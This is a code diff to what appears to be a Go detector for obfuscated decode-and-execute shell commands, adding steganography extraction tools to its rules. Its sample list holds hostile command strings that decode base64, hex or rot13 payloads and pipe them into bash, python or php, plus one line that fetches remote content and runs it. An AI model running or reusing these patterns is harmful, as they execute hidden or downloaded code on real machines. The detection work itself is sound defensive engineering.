@@ -20,7 +20,7 @@ var runDecode = Detector{
 		"echo aWQK | base64 -d | bash", "bash -c \"$(echo aWQK | base64 --decode)\"", "eval $(printf 6964 | xxd -r -p)", "base64 -d payload.b64 | sh", "sh <<< $(base64 -d <<< aWQK)",
 		"bash <(echo aWQK | base64 -d)", "echo aWQK > /tmp/a; base64 -d /tmp/a > /tmp/b; sh /tmp/b", "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"",
 		"php -r 'eval(base64_decode(\"c3lzdGVtKCdpZCcpOw==\"));'", "perl -MMIME::Base64 -e 'eval(decode_base64($ARGV[0]))' x", "node -e 'eval(Buffer.from(\"MSsx\",\"base64\").toString())'",
-		"openssl enc -base64 -d -in x | bash", "echo 'di' | rev | sh", "strings img.png | tail -n 1 | base64 -d | sh", "echo vq | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", "printf '\\151\\144' | base64 -d | sudo bash",
+		"openssl enc -base64 -d -in x | bash", "echo 'di' | rev | sh", "strings img.png | tail -n 1 | base64 -d | sh", "steghide extract -sf a.jpg -p x -xf - | sh", "echo vq | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", "printf '\\151\\144' | base64 -d | sudo bash",
 		"cp /usr/bin/base64 /tmp/z; echo aWQK | /tmp/z -d | sh", "echo aWQK | openssl base64 -d | python3",
 		"x=$(echo aWQK | base64 -d); $x", "curl -s https://example.com/p | base64 -d | bash",
 	),
@@ -42,6 +42,8 @@ func decoderStage(s *command.Simple) bool {
 		return p.Has("r")
 	case "openssl":
 		return p.Has("d") && len(s.Argv) > 1 && oneOf(s.Argv[1], "enc", "base64", "aes-256-cbc", "des3")
+	case "steghide", "stegseek", "outguess", "zsteg":
+		return s.Arg("extract", "-r", "-E", "--crack", "-xf") || s.Name == "zsteg"
 	case "rev", "uudecode":
 		return true
 	case "tr":
